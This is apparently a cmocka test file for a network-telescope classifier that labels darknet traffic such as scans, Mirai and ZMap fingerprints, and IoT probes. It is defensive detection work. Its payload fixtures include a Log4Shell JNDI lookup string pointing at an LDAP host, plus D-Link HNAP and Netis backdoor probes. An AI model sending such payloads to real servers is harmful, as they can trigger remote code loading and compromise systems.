#include "classify/classify.h"
#include "classify/payload.h"
#include "classify/udp_form.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

/* Rows are a plain packet with some fields overridden. */
#pragma GCC diagnostic ignored "-Woverride-init"

enum {
    S = OBSERVATION_IP | OBSERVATION_TRANSPORT | OBSERVATION_PORTS,
    T = S | OBSERVATION_TCP_FLAGS,
    TOTAL = 1 << MARK_total,
    SCAN = 1 << MARK_scan,
    BROAD = 1 << MARK_iot_broad,
    STRICT = 1 << MARK_iot_strict | BROAD,
    BOT = 1 << MARK_iot_bot | 1 << MARK_iot_confirmed,
    MIRAI = 1 << MARK_tool_mirai,
    ZMAP = 1 << MARK_tool_zmap,
    DST = 0xc0000201, /* 192.0.2.1 */
};

#define DARK .ip_version = 4, .dst = {192, 0, 2, 1}, .ttl = 52, .src_port = 40000
#define TCP(flags, port) \
    .state = T, DARK, .ip_proto = 6, .tcp_flags = flags, .tcp_header_len = 20, .dst_port = port
#define UDP(port) .state = S, DARK, .ip_proto = 17, .dst_port = port

static const struct row {
    const char *what;
    struct observation o;
    unsigned kind, marks;
    const char *iot, *service;
} rows[] = {
    {"SYN to Telnet", {TCP(TCP_SYN, 23)}, KIND_tcp_syn, TOTAL | SCAN | STRICT, "iot-telnet", ""},
    {"Mirai SYN to Telnet",
     {TCP(TCP_SYN, 23), .tcp_seq = DST},
     KIND_tcp_syn,
     TOTAL | SCAN | STRICT | BOT | MIRAI,
     "iot-telnet",
     ""},
    {"Mirai SYN to a shared port",
     {TCP(TCP_SYN, 80), .tcp_seq = DST},
     KIND_tcp_syn,
     TOTAL | SCAN | BROAD | BOT | MIRAI,
     "iot-web-admin",
     "web-http"},
    {"Mirai SYN to a port without iot rule",
     {TCP(TCP_SYN, 445), .tcp_seq = DST},
     KIND_tcp_syn,
     TOTAL | SCAN | MIRAI,
     "",
     "windows-smb"},
    {"SYN to SSH", {TCP(TCP_SYN, 22)}, KIND_tcp_syn, TOTAL | SCAN | BROAD, "iot-ssh", "ssh"},
    {"SYN to a port without rule", {TCP(TCP_SYN, 65000)}, KIND_tcp_syn, TOTAL | SCAN, "", ""},
    {"data to Telnet",
     {TCP(TCP_ACK | TCP_PSH, 23), .payload_len = 4},
     KIND_tcp_data,
     TOTAL | SCAN | STRICT,
     "iot-telnet",
     ""},
    {"answer from someone, port 23",
     {TCP(TCP_SYN | TCP_ACK, 23)},
     KIND_backscatter_tcp,
     TOTAL,
     "",
     ""},
    {"RST with id 54321",
     {TCP(TCP_RST, 23), .ip_id = 54321},
     KIND_backscatter_tcp,
     TOTAL | ZMAP,
     "",
     ""},
    {"FIN to Telnet", {TCP(TCP_FIN, 23)}, KIND_tcp_other, TOTAL, "", ""},
    {"SSDP", {UDP(1900)}, KIND_udp, TOTAL | SCAN | BROAD, "iot-ssdp", ""},
    {"BACnet", {UDP(47808)}, KIND_udp, TOTAL | SCAN | STRICT, "iot-bacnet", "industrial-bacnet"},
    {"UDP 23 is no Telnet", {UDP(23)}, KIND_udp, TOTAL | SCAN, "", ""},
    {"UDP without ports",
     {.state = OBSERVATION_IP | OBSERVATION_TRANSPORT, DARK, .ip_proto = 17, .dst_port = 1900},
     KIND_udp,
     TOTAL | SCAN,
     "",
     ""},
    {"NetBIOS broadcast", {UDP(137), .src_port = 137, .dst[3] = 255}, KIND_stray, TOTAL, "", ""},
    {"ping", {.state = S, DARK, .ip_proto = 1, .icmp_type = 8}, KIND_icmp, TOTAL, "", ""},
    {"fragment",
     {.state = OBSERVATION_IP | OBSERVATION_FRAGMENT, DARK, .ip_proto = 6},
     KIND_fragment,
     TOTAL,
     "",
     ""},
    {"ARP", {0}, KIND_non_ip, TOTAL, "", ""},
    {"malformed Mirai",
     {TCP(TCP_SYN, 23), .state = T | OBSERVATION_MALFORMED, .tcp_seq = DST},
     KIND_malformed,
     TOTAL | MIRAI,
     "",
     ""},
};
enum { ROWS = sizeof rows / sizeof rows[0] };

static struct ruleset *rules;

static int set_up(void **state)
{
    struct fault fault;
    return ruleset_create(&rules, NULL, &fault);
}

static int tear_down(void **state)
{
    ruleset_destroy(rules);
    return 0;
}

static void check_rule(const struct row *row, uint16_t rule, const char *id)
{
    if (strcmp(rule == RULE_NONE ? "" : rules->rules[rule].id, id) != 0)
        fail_msg("%s: rule %u, expected '%s'", row->what, rule, id);
}

static void test_labels(void **state)
{
    struct observation observations[ROWS];
    struct label labels[ROWS];
    for (unsigned i = 0; i < ROWS; i++)
        observations[i] = rows[i].o;
    classify_batch(rules, NULL, observations, ROWS, NULL, NULL, labels);
    for (unsigned i = 0; i < ROWS; i++) {
        const struct row *row = &rows[i];
        if (labels[i].kind != row->kind || labels[i].marks != row->marks)
            fail_msg("%s: kind %s, marks %x, expected %s, %x", row->what, kind_name(labels[i].kind),
                     labels[i].marks, kind_name(row->kind), row->marks);
        check_rule(row, labels[i].rules[0], row->iot);
        check_rule(row, labels[i].rules[1], row->service);
        assert_int_equal(label_tools(&labels[i]), labels[i].marks >> MARK_tool_mirai);
        bool is_bot = row->kind == KIND_tcp_syn && row->marks & MIRAI;
        assert_int_equal(labels[i].evidence, is_bot                           ? EVIDENCE_bot
                                             : row->iot[0] || row->service[0] ? EVIDENCE_port
                                                                              : EVIDENCE_none);
        assert_int_equal(labels[i].payload_rule, RULE_NONE);
        assert_int_equal(labels[i].flags, row->kind == KIND_tcp_syn && row->o.ip_version == 4
                                              ? LABEL_ASSESSABLE
                                              : 0);
    }
}

/* With a telescope, what is not addressed to it is outside and counts in no share. */
static void test_telescope(void **state)
{
    struct prefix_set *telescope;
    struct fault fault;
    const struct observation observations[] = {
        {TCP(TCP_SYN, 23), .tcp_seq = DST},
        {TCP(TCP_SYN, 23), .tcp_seq = DST + 1, .dst[3] = 2},
        {.state = T,
         .ip_version = 6,
         .ip_proto = 6,
         .dst = {0x20, 0x01, 0x0d, 0xb8},
         .tcp_flags = TCP_SYN,
         .dst_port = 23},
        {.state = T,
         .ip_version = 6,
         .ip_proto = 6,
         .dst = {192, 0, 2, 1},
         .tcp_flags = TCP_SYN,
         .dst_port = 23},
        {0},
    };
    static const struct {
        unsigned kind, marks;
    } expected[] = {
        {KIND_tcp_syn, TOTAL | SCAN | STRICT | BOT | MIRAI},
        {KIND_outside, TOTAL | MIRAI},
        {KIND_tcp_syn, TOTAL | SCAN | STRICT},
        {KIND_outside, TOTAL},
        {KIND_non_ip, TOTAL},
    };
    struct label labels[5];
    assert_int_equal(prefix_set_create(&telescope, "192.0.2.1,2001:db8::/32", &fault), 0);
    classify_batch(rules, telescope, observations, 5, NULL, NULL, labels);
    for (unsigned i = 0; i < 5; i++) {
        assert_int_equal(labels[i].kind, expected[i].kind);
        assert_int_equal(labels[i].marks, expected[i].marks);
    }
    prefix_set_destroy(telescope);
}

enum {
    SHARED = BROAD,
    CONFIRMED = STRICT | 1 << MARK_iot_payload | 1 << MARK_iot_confirmed,
};

#define LOG4J "GET / HTTP/1.1\r\nX: ${jndi:ldap://192.0.2.9/a}\r\n\r\n"
#define HNAP  "GET /HNAP1/ HTTP/1.1\r\n\r\n"
#define RTSP  "OPTIONS / RTSP/1.0\r\n\r\n"
#define PLAIN "GET / HTTP/1.1\r\n\r\n"

/* What a payload's rule makes of the label. */
static const struct payload_label_row {
    const char *what;
    struct observation o;
    const char *payload;
    unsigned marks; /* but for total and scan */
    const char *rule;
    unsigned evidence, is_assessable;
} payload_rows[] = {
    {"strict, any port",
     {TCP(TCP_ACK, 65000)},
     HNAP,
     CONFIRMED,
     "iot-dlink-hnap",
     EVIDENCE_payload,
     1},
    {"strict, shared port",
     {TCP(TCP_ACK, 80)},
     HNAP,
     CONFIRMED,
     "iot-dlink-hnap",
     EVIDENCE_payload,
     1},
    {"shared, any port", {TCP(TCP_ACK, 65000)}, RTSP, SHARED, "iot-rtsp", EVIDENCE_payload, 1},
    {"shared, strict port", {TCP(TCP_ACK, 23)}, RTSP, STRICT, "iot-rtsp", EVIDENCE_payload, 1},
    {"not IoT, strict port", {TCP(TCP_ACK, 23)}, LOG4J, 0, "web-log4shell", EVIDENCE_payload, 1},
    {"not IoT, shared port", {TCP(TCP_ACK, 80)}, LOG4J, 0, "web-log4shell", EVIDENCE_payload, 1},
    {"no rule, port with one", {TCP(TCP_ACK, 80)}, PLAIN, SHARED, "", EVIDENCE_port, 1},
    {"no rule at all", {TCP(TCP_ACK, 65000)}, PLAIN, 0, "", EVIDENCE_none, 1},
    {"on a SYN", {TCP(TCP_SYN, 80)}, HNAP, CONFIRMED, "iot-dlink-hnap", EVIDENCE_payload, 1},
    {"a bot's SYN that is not IoT",
     {TCP(TCP_SYN, 23), .tcp_seq = DST},
     LOG4J,
     MIRAI,
     "web-log4shell",
     EVIDENCE_payload,
     1},
    {"a bot's SYN without rule",
     {TCP(TCP_SYN, 23), .tcp_seq = DST},
     PLAIN,
     MIRAI | STRICT | BOT,
     "",
     EVIDENCE_bot,
     1},
    {"an answer", {TCP(TCP_SYN | TCP_ACK, 80)}, HNAP, 0, "", EVIDENCE_none, 0},
    {"a FIN", {TCP(TCP_FIN, 80)}, HNAP, 0, "", EVIDENCE_none, 0},
    {"UDP to a port that wants it",
     {UDP(53413)},
     "AA\0\0AAAA netcore",
     CONFIRMED,
     "iot-netis-backdoor",
     EVIDENCE_payload,
     1},
    {"UDP to one that does not", {UDP(65000)}, "AA\0\0AAAA netcore", 0, "", EVIDENCE_none, 0},
    {"no byte caught", {TCP(TCP_ACK, 80)}, "", SHARED, "", EVIDENCE_port, 0},
};
enum { PAYLOAD_ROWS = sizeof payload_rows / sizeof payload_rows[0] };

static void test_payloads(void **state)
{
    static const struct payload_settings settings = {.cache_dir = ""};
    struct observation observations[PAYLOAD_ROWS];
    struct label labels[PAYLOAD_ROWS];
    uint8_t payloads[4096];
    uint32_t at = 3;
    struct fault fault;
    if (!payload_is_built)
        skip();
    assert_int_equal(payload_load(rules, &settings, &fault), 0);
    struct payload_scratch *scratch = payload_scratch_create(rules);
    for (unsigned i = 0; i < PAYLOAD_ROWS; i++) {
        const struct payload_label_row *row = &payload_rows[i];
        size_t len = row->o.ip_proto == 17 ? 16 : strlen(row->payload);
        observations[i] = row->o;
        observations[i].payload_at = at;
        observations[i].payload_len = 40;
        observations[i].payload_caught = (uint16_t)len;
        memcpy(payloads + at, row->payload, len);
        at += (uint32_t)len;
    }
    classify_batch(rules, NULL, observations, PAYLOAD_ROWS, payloads, scratch, labels);
    for (unsigned i = 0; i < PAYLOAD_ROWS; i++) {
        const struct payload_label_row *row = &payload_rows[i];
        const struct label *l = &labels[i];
        const char *id = l->payload_rule == RULE_NONE ? "" : rules->rules[l->payload_rule].id;
        if (strcmp(id, row->rule) != 0 || (l->marks & ~(unsigned)(TOTAL | SCAN)) != row->marks ||
            l->evidence != row->evidence || !(l->flags & LABEL_ASSESSABLE) != !row->is_assessable)
            fail_msg("%s: '%s', marks %x, evidence %u, assessable %u", row->what, id, l->marks,
                     l->evidence, l->flags);
    }
    payload_scratch_destroy(scratch);
}

/* What stands beside the kind. */
static void test_flags(void **state)
{
    static const char search[] = "M-SEARCH * HTTP/1.1\r\nST: ssdp:all\r\n";
    static const char probe[] = "masscan-test";
    enum { SPOOFED = LABEL_LIKELY_SPOOFED, ASKS = LABEL_AMPLIFICATION_REQUEST };
    static const struct {
        struct observation o;
        const char *payload;
        unsigned flags, form, tools;
    } cases[] = {
        {{UDP(1900)}, search, ASKS, UDP_asks_ssdp, 0},
        {{UDP(1901)}, search, 0, UDP_FORM_NONE, 0},
        {{UDP(1900), .src_port = 0}, search, SPOOFED | ASKS, UDP_asks_ssdp, 0},
        {{UDP(19)}, probe, ASKS, UDP_asks_chargen, 1 << TOOL_probe},
        {{UDP(7)}, probe, 0, UDP_FORM_NONE, 1 << TOOL_probe},
        {{TCP(TCP_SYN, 23), .src = {192, 0, 2, 1}}, NULL, SPOOFED, 0, 0},
        {{TCP(TCP_SYN, 23), .src = {192, 0, 2, 9}}, NULL, 0, 0, 0},
    };
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        struct observation o = cases[i].o;
        struct label label;
        if (cases[i].payload)
            o.payload_len = o.payload_caught = (uint16_t)strlen(cases[i].payload);
        o.tcp_seq = 77;
        classify_batch(rules, NULL, &o, 1, (const uint8_t *)cases[i].payload, NULL, &label);
        assert_int_equal(label.flags & ~LABEL_ASSESSABLE, cases[i].flags);
        assert_int_equal(label.form, cases[i].form);
        assert_int_equal(label_tools(&label), cases[i].tools);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_labels),
        cmocka_unit_test(test_telescope),
        cmocka_unit_test(test_payloads),
        cmocka_unit_test(test_flags),
    };
    return cmocka_run_group_tests(tests, set_up, tear_down);
}
